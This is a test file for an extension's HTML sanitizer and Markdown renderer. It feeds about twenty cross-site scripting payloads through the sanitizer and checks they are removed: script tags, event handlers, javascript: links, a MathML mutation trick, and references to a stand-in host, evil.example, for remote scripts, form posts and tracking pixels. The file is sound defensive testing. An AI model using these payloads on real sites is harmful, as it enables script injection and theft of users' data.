// @vitest-environment jsdom
import { createHash } from 'node:crypto';

import { expect, test } from 'vitest';

import { FRAME_POLICY, FRAME_SCRIPT, FRAME_SCRIPT_HASH } from '../../../contract/frame.js';
import { frameDocument } from '../../../extension/view/frame-document.js';
import { renderMarkdown, sanitizeHtml, svgAddress } from '../../../extension/view/sanitize.js';

const HOSTILE: readonly (readonly [string, string])[] = [
  ['a script', '<script>alert(1)</script><p>text</p>'],
  ['a script in capitals with attributes', '<p>text</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['an error handler', '<p>text</p><img src=x onerror=alert(1)>'],
  ['a load handler on a body', '<body onload=alert(1)><p>text</p></body>'],
  ['a javascript link', '<p>text</p><a href="javascript:alert(1)">go</a>'],
  ['a javascript link with a tab in it', '<p>text</p><a href="java&#9;script:alert(1)">go</a>'],
  [
    'a form',
    '<p>text</p><form action="https://evil.example"><input name=a><button>ok</button></form>',
  ],
  ['a formaction', '<p>text</p><button formaction="javascript:alert(1)">x</button>'],
  ['a meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example"><p>text</p>'],
  ['a base', '<base href="https://evil.example/"><p>text</p>'],
  ['a frame', '<p>text</p><iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object and an embed', '<p>text</p><object data=x></object><embed src=x>'],
  ['a script in an SVG', '<p>text</p><svg><script>alert(1)</script></svg>'],
  ['a handler in an SVG', '<p>text</p><svg onload=alert(1)><animate onbegin=alert(1)></svg>'],
  [
    'MathML that changes its mind',
    '<p>text</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a style that closes itself', '<p>text</p><style></style><script>alert(1)</script></style>'],
  ['a remote picture', '<p>text</p><img src="https://evil.example/pixel.png">'],
  ['a remote picture set', '<p>text</p><img srcset="https://evil.example/a.png 1x">'],
  ['a linked style sheet', '<link rel=stylesheet href="https://evil.example/x.css"><p>text</p>'],
  ['a clobbering form', '<p>text</p><form id=x><input name=attributes onclick=alert(1)></form>'],
  ['a template', '<p>text</p><template><script>alert(1)</script></template>'],
  ['a comment that breaks out', '<p>text</p><!--><img src=x onerror=alert(1)>-->'],
];

const FORBIDDEN =
  'script, iframe, object, embed, form, input, button, meta, base, link, svg, math, template, video, audio';

test.each(HOSTILE)('takes out %s and keeps the text', (_, html) => {
  const clean = new DOMParser().parseFromString(sanitizeHtml(html), 'text/html');
  expect(clean.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  for (const element of clean.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^(href|srcset|action|formaction|target)$/i);
      if (name === 'src') expect(value).toMatch(/^data:image\//);
    }
  expect(clean.body.textContent).toContain('text');
  expect(clean.documentElement.innerHTML).not.toMatch(/evil\.example[^"]*"?[^>]*src=/);
});

test.each(HOSTILE)('does the same to %s in Markdown', (_, html) => {
  const clean = new DOMParser().parseFromString(renderMarkdown(`# Title\n\n${html}`), 'text/html');
  expect(clean.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  expect(clean.documentElement.innerHTML).not.toMatch(/<[^>]* on\w+=/);
  expect(clean.querySelector('h1')?.textContent).toBe('Title');
});

test('keeps what a data frame and a report are made of', () => {
  const html =
    '<style scoped>.dataframe th { color: red }</style><table class="dataframe" border="1"><tbody><tr><th>a</th><td>1</td></tr></tbody></table>';
  const clean = sanitizeHtml(`<div>${html}</div>`);
  expect(clean).toContain('<th>a</th><td>1</td>');
  expect(clean).toContain('<style');
});

test("keeps a link's words, and its address as a tooltip", () => {
  expect(sanitizeHtml('<a href="https://example.org/x">docs</a>')).toBe(
    '<a title="https://example.org/x">docs</a>',
  );
});

test('keeps a picture that is in the notebook itself', () => {
  expect(sanitizeHtml('<img src="data:image/png;base64,AAAA">')).toContain('base64,AAAA');
  expect(sanitizeHtml('<img src="data:text/html,<script>">')).not.toContain('src');
});

test('renders Markdown with tables', () => {
  expect(renderMarkdown('| a |\n| - |\n| *b* |')).toContain('<em>b</em>');
});

test('makes of an SVG an address that an image takes, with nothing that could end it', () => {
  const address = svgAddress('<svg xmlns="http://www.w3.org/2000/svg"><text>"é#</text></svg>');
  expect(address).toMatch(/^data:image\/svg\+xml;charset=utf-8,[\w%.~!*'()-]+$/);
  expect(decodeURIComponent(address)).toContain('"é#');
});

test("names the frame's script by its hash", () => {
  const hash = createHash('sha256').update(FRAME_SCRIPT).digest('base64');
  expect(FRAME_SCRIPT_HASH).toBe(`sha256-${hash}`);
  expect(FRAME_SCRIPT).not.toContain('</');
});

test('puts the policy first, one script last, and lets no theme break out of the style', () => {
  const hostile = 'red}</style><script>alert(1)</script>';
  const look = {
    color: hostile,
    ground: hostile,
    added: hostile,
    deleted: hostile,
    quiet: hostile,
    border: 'grey',
    fontFamily: 'serif',
    codeFamily: '"Fira Code"',
    dark: true,
  };
  const frame = new DOMParser().parseFromString(frameDocument('<p>text</p>', look), 'text/html');
  expect(frame.head.firstElementChild?.getAttribute('content')).toBe(FRAME_POLICY);
  expect([...frame.querySelectorAll('script')].map((script) => script.textContent)).toEqual([
    FRAME_SCRIPT,
  ]);
});
